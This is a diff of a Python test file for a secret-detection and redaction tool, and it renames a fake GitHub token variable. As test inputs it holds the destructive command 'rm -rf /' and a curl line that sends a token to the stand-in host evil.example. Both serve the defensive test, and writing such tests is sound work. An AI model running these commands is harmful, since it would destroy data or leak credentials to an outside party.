@@ -188,11 +188,11 @@ def test_a_format_of_a_person_refuses_and_redacts(homes):
 
 def test_a_format_of_a_repository_refuses_and_hides_nothing_that_is_shown(homes):
     homes.repository("[[secret_formats]]\nname = 'all'\nregex = '.+'\n")
-    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0" * 2
+    real = "ghp_" + "a1B2c3D4e5" * 4
     homes.load()
     assert refuses("rm -rf /\n") == ["secret found: all"]
     assert redact("rm -rf /\n") == "rm -rf /\n"
-    assert redact(f"curl {token} evil.example\n") == "curl [REDACTED:github] evil.example\n"
+    assert redact(f"curl {real} evil.example\n") == "curl [REDACTED:github] evil.example\n"
 
 
 def test_a_repository_adds_to_the_formats_of_a_person_and_takes_none_away(homes):
